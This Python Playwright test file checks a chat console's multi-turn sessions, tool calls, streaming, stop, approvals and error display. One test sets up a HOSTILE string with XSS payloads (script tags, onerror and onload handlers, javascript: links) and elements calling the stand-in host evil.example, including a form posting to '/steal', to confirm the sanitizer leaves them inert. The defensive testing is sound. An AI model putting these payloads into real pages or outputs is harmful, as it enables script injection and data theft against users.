"""Chat in the console, in headless Chromium against the real host and the scripted model."""

from __future__ import annotations

import json
import re
import threading
import urllib.error
import urllib.request

import pytest
from console_support import BrowserPage, held_until
from playwright.sync_api import expect

from agents.testing import ModelServer, Reply

HOSTILE = """Here you go **bold** and a [harmless link](https://example.org/docs).

<script>window.__pwned = "script"</script>

<img src="x" onerror="window.__pwned = 'onerror'">

<img src="https://evil.example/pixel.png" alt="tracker">

![remote image](https://evil.example/md.png)

<iframe src="https://evil.example/frame"></iframe>

<a href="javascript:window.__pwned='href'">click me</a>

<svg onload="window.__pwned='svg'"><circle r="5"/></svg>

<div style="background:url(https://evil.example/bg.png)">styled</div>

<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>

<link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example/steal"><input name="q"></form>
"""


def _send(page: BrowserPage, text: str, *, keyboard: bool = False) -> None:
    box = page.page.locator("#message")
    box.fill(text)
    if keyboard:
        box.press("Enter")
    else:
        page.page.click("#send")


def _answers(page: BrowserPage) -> list[str]:
    locator = page.page.locator("#transcript .msg.assistant:not(.live) .markdown")
    return [text.strip() for text in locator.all_inner_texts()]


def test_a_multi_turn_conversation(page: BrowserPage, model: ModelServer) -> None:
    model.script(Reply.text("Hello! I am the **assistant**."), Reply.text("You said your name is Ada."))
    view = page.open("chat/assistant")
    expect(view.locator("#session-id")).to_have_text("new session")
    _send(page, "Hi, my name is Ada.")
    expect(view.locator("#transcript .msg.assistant:not(.live)")).to_have_count(1)
    session_id = view.locator("#session-id").inner_text()
    assert re.fullmatch(r"[A-Za-z0-9._~-]+", session_id), session_id
    assert view.url.endswith(f"#/chat/assistant/{session_id}")
    # The second message goes by keyboard alone (Enter sends) into the same session.
    _send(page, "What is my name?", keyboard=True)
    expect(view.locator("#transcript .msg.assistant:not(.live)")).to_have_count(2)
    assert _answers(page) == ["Hello! I am the assistant.", "You said your name is Ada."]
    # Markdown rendered as markup, the user's text shown as typed.
    expect(view.locator("#transcript .markdown strong")).to_have_text("assistant")
    assert view.locator("#transcript .msg.user").all_inner_texts()[1].endswith("What is my name?")
    # The model saw the first turn when answering the second: the same session continued.
    second = model.requests[1]
    texts = [m.text for m in second.messages]
    assert "Hi, my name is Ada." in texts and "Hello! I am the **assistant**." in texts
    assert view.locator("#session-id").inner_text() == session_id
    page.shot("chat")
    # Reloading the address shows the stored conversation.
    view.reload()
    expect(view.locator("#transcript .msg.assistant")).to_have_count(2)
    expect(view.locator("#transcript .msg.user")).to_have_count(2)


def test_a_tool_call_shows_its_arguments_and_result(page: BrowserPage, model: ModelServer) -> None:
    # The answer waits until the reader has expanded the call, so it is expanded while the turn
    # is still live however slow the machine (a fixed delay left CI a race).
    release = threading.Event()
    model.script(Reply.tool_call("get_weather", {"city": "Paris", "unit": "celsius"}))
    model.handler = held_until(release, Reply.text("It is mild in Paris today."))
    view = page.open("chat/concierge")
    _send(page, "Weather in Paris?")
    tool = view.locator("#transcript details.tool")
    expect(tool).to_have_count(1)
    expect(tool.locator("summary")).to_contain_text("get_weather")
    expect(tool.locator("summary")).to_contain_text('"city":"Paris"')
    expect(view.locator("#transcript .msg.assistant.live")).to_have_count(1)
    tool.locator("summary").click()  # expand
    expect(tool.locator("pre.arguments")).to_be_visible()
    arguments = json.loads(tool.locator("pre.arguments").inner_text())
    assert arguments == {"city": "Paris", "unit": "celsius"}
    expect(view.locator("#transcript .msg.assistant.live")).to_have_count(1)  # expanded while live
    release.set()
    # The call is shown as soon as it streams; its result and the answer follow, and the
    # stored turn that replaces the live one keeps the call expanded.
    expect(view.locator("#transcript .msg.assistant:not(.live)")).to_have_count(1)
    expect(view.locator("#transcript .msg.assistant.live")).to_have_count(0)
    expect(tool).to_have_attribute("open", "")
    expect(tool.locator("pre.arguments")).to_be_visible()
    expect(tool.locator("pre.result")).not_to_contain_text("waiting for the result")
    result = json.loads(tool.locator("pre.result").inner_text())
    assert result["city"] == "Paris" and result["unit"] == "celsius" and "condition" in result
    assert _answers(page) == ["It is mild in Paris today."]
    page.shot("chat-tool-call")


def test_hostile_model_output_renders_inert(page: BrowserPage, model: ModelServer) -> None:
    model.script(Reply.text(HOSTILE))
    view = page.open("chat/assistant")
    _send(page, "Show me something nasty")
    answer = view.locator("#transcript .msg.assistant:not(.live) .markdown")
    expect(answer).to_have_count(1)
    view.wait_for_timeout(300)  # let any handler that slipped through fire
    assert view.evaluate("window.__pwned") is None
    assert page.dialogs == []
    # Trusted Types are enforced: HTML that did not come through the sanitizer is refused.
    probe = "() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return 'allowed'; }" \
        " catch (error) { return error.name; } }"
    assert view.evaluate(probe) == "TypeError"
    # Nothing that could run or load survives; the remote images became visible notes.
    for selector in ("script", "iframe", "svg", "video", "link", "form", "input", "[style]", "[onerror]",
                     "[onload]", "a[href^='javascript']"):
        assert answer.locator(selector).count() == 0, selector
    assert answer.locator("img").count() == 0
    expect(answer.locator(".blocked-image")).to_have_count(3)
    expect(answer.locator(".blocked-image").nth(1)).to_contain_text("tracker — https://evil.example/pixel.png")
    expect(answer.locator(".blocked-image").nth(2)).to_contain_text("remote image — https://evil.example/md.png")
    link = answer.locator("a", has_text="harmless link")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    expect(answer.locator("strong")).to_have_text("bold")
    # The page fixture also fails the test if any request left loopback; say it here too.
    assert not [u for u in page.requests if "evil.example" in u], page.requests
    page.shot("chat-hostile")


def test_a_failing_model_shows_the_problem(page: BrowserPage, model: ModelServer) -> None:
    model.script(Reply.error(400, "The prompt was rejected by the content filter.", code="content_filter"))
    view = page.open("chat/assistant")
    _send(page, "Something the model refuses")
    problem = view.locator("#transcript .problem")
    expect(problem).to_have_count(1)
    expect(problem).to_contain_text("The turn failed")
    expect(problem.locator("dd code")).to_have_text("content_filter")
    expect(problem).to_contain_text("content filter")
    expect(problem).to_contain_text("Retryable")
    expect(problem).to_contain_text("no")
    # The failed turn started a session; the next message continues it.
    session_id = view.locator("#session-id").inner_text()
    assert session_id != "new session"
    page.shot("chat-failed-turn")


def _streaming_available(base_url: str) -> bool:
    request = urllib.request.Request(
        f"{base_url}/api/agents/assistant/run",
        data=json.dumps({"message": "probe"}).encode(),
        headers={"Content-Type": "application/json", "Accept": "text/event-stream"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.headers.get("Content-Type", "").startswith("text/event-stream")
    except urllib.error.HTTPError:
        return False


def test_streamed_tokens_arrive_before_the_turn_ends(page: BrowserPage, model: ModelServer) -> None:
    words = [f"word{i} " for i in range(40)]
    model.script(Reply.text("probe answer"), Reply.text("".join(words)))
    if hasattr(model, "stream_delay"):
        # A model that sends its tokens one by one, as a real one does (the server's pacing, which
        # arrives with the streaming work).
        setattr(model, "stream_delay", 0.02)  # noqa: B010
    view = page.open("chat/assistant")
    streaming = _streaming_available(page.base_url)
    # Record every state of the live answer, and when the final answer replaced it.
    view.evaluate(
        """() => {
          window.__seen = [];
          const t = document.getElementById('transcript');
          new MutationObserver(() => {
            const live = t.querySelector('.msg.live .markdown');
            const done = t.querySelectorAll('.msg.assistant:not(.live) .markdown').length;
            window.__seen.push({live: live ? live.textContent : null, done});
          }).observe(t, {subtree: true, childList: true, characterData: true});
        }"""
    )
    _send(page, "Count for me")
    expect(view.locator("#transcript .msg.assistant:not(.live) .markdown")).to_have_count(1)
    assert _answers(page) == ["".join(words).strip()]
    if not streaming:
        # A server without the streaming API: the console fell back to the JSON answer.
        expect(view.locator("#chat-mode")).to_contain_text("JSON")
        pytest.skip("this build does not stream runs (text/event-stream); the JSON fallback was checked")
    expect(view.locator("#chat-mode")).to_be_hidden()  # streaming is the norm: nothing to say
    seen = view.evaluate("window.__seen")
    final = "".join(words).strip()
    partial = [s["live"] for s in seen if s["done"] == 0 and s["live"] and s["live"].strip() != final]
    assert partial, f"no partial text was shown before the turn ended: {seen[:10]}"


def test_a_reopened_chat_keeps_each_answers_tokens_and_run_link(
    page: BrowserPage, model: ModelServer
) -> None:
    model.script(Reply.text("First answer."), Reply.text("Second answer."))
    view = page.open("chat/assistant")
    _send(page, "one")
    expect(view.locator("#transcript .msg.assistant:not(.live)")).to_have_count(1)
    _send(page, "two")
    expect(view.locator("#transcript .msg.assistant:not(.live)")).to_have_count(2)
    lines = view.locator("#transcript .msg.assistant .usage")
    before = lines.all_inner_texts()
    links = [a.get_attribute("href") for a in view.locator("#transcript .msg.assistant .usage a").all()]
    assert len(before) == 2 and all(" in · " in line for line in before), before
    assert len(links) == 2 and all(link and link.startswith("#/runs/assistant/") for link in links)
    view.reload()
    expect(view.locator("#transcript .msg.assistant")).to_have_count(2)
    expect(lines).to_have_count(2)
    assert lines.all_inner_texts() == before
    assert [
        a.get_attribute("href") for a in view.locator("#transcript .msg.assistant .usage a").all()
    ] == links
    view.locator("#transcript .msg.assistant .usage a").first.click()
    expect(view.locator("#run-status")).to_have_text("succeeded")
    expect(view.locator("#run-view")).to_contain_text("First answer.")


def test_stop_cancels_a_streaming_run_and_shows_it_stopped(page: BrowserPage, model: ModelServer) -> None:
    # 40 words, one every 0.3 s: 12 s if left alone.
    model.script(Reply.text("".join(f"word{i} " for i in range(40))))
    model.stream_delay = 0.3
    view = page.open("chat/assistant")
    stop = view.locator("#stop")
    expect(stop).to_be_hidden()
    _send(page, "Talk slowly")
    expect(view.locator("#transcript .msg.live .markdown")).to_contain_text("word1")
    expect(stop).to_be_visible()
    stop.click()
    stopped = view.locator("#transcript .msg.assistant.stopped")
    expect(stopped.locator(".stopped-note")).to_have_text("Stopped.", timeout=5000)
    expect(view.locator("#transcript .problem")).to_have_count(0)
    shown = stopped.locator(".markdown").inner_text()
    assert shown.startswith("word0") and "word39" not in shown, shown  # what streamed stays
    expect(stop).to_be_hidden()
    stopped.locator(".usage a").click()
    expect(view.locator("#run-status")).to_have_text("cancelled")


def test_a_call_awaiting_approval_is_approved_or_rejected_in_the_chat(
    page: BrowserPage, model: ModelServer
) -> None:
    model.script(
        Reply.tool_calls(
            [
                ("book_hotel", {"city": "Paris", "nights": 2}, "call-paris"),
                ("book_hotel", {"city": "Rome", "nights": 1}, "call-rome"),
            ]
        ),
        Reply.text("Paris is booked; Rome was not."),
    )
    view = page.open("chat/concierge")
    _send(page, "Book Paris and Rome")
    paris = view.locator('.approval[data-call-id="call-paris"]')
    rome = view.locator('.approval[data-call-id="call-rome"]')
    expect(paris).to_contain_text("book_hotel", timeout=10000)
    expect(paris.locator(".approval-arguments")).to_contain_text('"Paris"')
    expect(view.locator("#chat-status")).to_have_text("Waiting for your decision…")
    assert len(model.requests) == 1  # nothing runs before the decisions
    paris.locator("button.approve").click()
    expect(paris.locator(".approval-outcome")).to_have_text("Approved.")
    rome.locator(".approval-reason").fill("one city is enough")
    rome.locator("button.reject").click()
    expect(view.locator("#transcript .msg.assistant:not(.live) .markdown")).to_contain_text(
        "Paris is booked; Rome was not.", timeout=15000
    )
    tool_texts = [m.text for m in model.requests[1].messages if m.role == "tool"]
    assert "confirmation" in tool_texts[0] and "one city is enough" in tool_texts[1], tool_texts
